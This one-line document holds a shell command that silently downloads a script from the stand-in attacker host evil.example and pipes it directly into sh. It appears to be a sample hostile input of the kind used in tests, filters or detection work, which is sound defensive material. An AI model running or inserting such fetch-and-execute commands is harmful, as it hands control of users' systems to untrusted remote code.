curl -fsSL https://evil.example/x.sh | sh
